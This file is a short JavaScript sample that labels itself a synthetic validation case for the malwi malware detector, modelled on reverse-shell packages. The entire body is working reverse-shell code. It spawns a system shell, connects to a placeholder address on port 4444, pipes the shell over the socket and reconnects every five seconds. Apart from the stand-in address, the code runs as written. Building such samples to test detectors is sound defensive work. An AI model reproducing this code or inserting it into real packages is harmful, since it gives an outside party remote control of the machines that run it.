// SYNTHETIC, DEFANGED malwi validation sample - modelled on JavaScript reverse-shell packages (2020-2023); never run.
// Detached child that connects out and pipes a shell over the socket, reconnecting forever.
(function () {
  var net = require('net'),
    cp = require('child_process'),
    sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  var client = new net.Socket();
  function connect() {
    client.connect(4444, '203.0.113.9', function () {
      client.pipe(sh.stdin);
      sh.stdout.pipe(client);
      sh.stderr.pipe(client);
    });
  }
  client.on('error', function () {
    setTimeout(connect, 5000);
  });
  connect();
  return /a/;
})();
